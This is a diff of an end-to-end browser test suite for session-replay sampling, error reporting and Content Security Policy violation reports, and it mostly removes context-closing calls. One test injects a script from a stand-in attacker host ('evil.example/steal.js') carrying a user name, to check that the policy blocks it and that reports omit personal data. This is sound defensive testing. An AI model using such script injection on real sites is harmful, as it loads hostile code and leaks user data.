@@ -92,7 +92,6 @@ describe('a sampled visit', () => {
     expect(ingest.replays().flatMap(eventsOf).filter(({ timestamp }) => timestamp > withdrawnAt && timestamp < acceptedAgainAt)).toEqual([])
     expect(ofAnother()[0]?.segment_id).toBe(0)
     expect(complaints).toEqual([])
-    await context.close()
   })
 })
 
@@ -115,7 +114,6 @@ describe('a visit sampled for errors', () => {
     expect(report).toMatchObject({ contexts: { replay: { replay_id: 'e'.repeat(32) } } })
     expect(own()[0]).toMatchObject({ segment_id: 0, replay_type: 'buffer', error_ids: expect.arrayContaining([report?.event_id]) })
     expect(own().flatMap(eventsOf).some(({ type }) => type === 2)).toBe(true)
-    await context.close()
   })
 })
 
@@ -128,13 +126,12 @@ describe('a visit that is not sampled', () => {
     await expect.poll(() => keptOf(page)).toBe('none')
     await Promise.all([page.waitForRequest((request) => new URL(request.url()).pathname === '/error-reports'), page.reload()])
     expect(asked()).toBe(0)
-    await context.close()
   })
 })
 
 describe('a violation of a page’s policy', () => {
   it('is reported by the browser with or without consent, as rule, host and page', async () => {
-    const { page, context } = await openShopper()
+    const { page } = await openShopper()
     await page.goto(at('/legal/privacy?lang=en'))
     await page.evaluate(() => document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/steal.js?who=ana' })))
     await expect.poll(() => ingest.named('policy-violation').length).toBe(1)
@@ -142,6 +139,5 @@ describe('a violation of a page’s policy', () => {
       transaction: '/legal/:page', exception: { values: [{ type: 'PolicyViolation', value: expect.stringContaining('script-src-elem refused https://evil.example') }] },
     })
     expect(JSON.stringify(ingest.named('policy-violation'))).not.toMatch(/ana|steal|lang/)
-    await context.close()
   })
 })
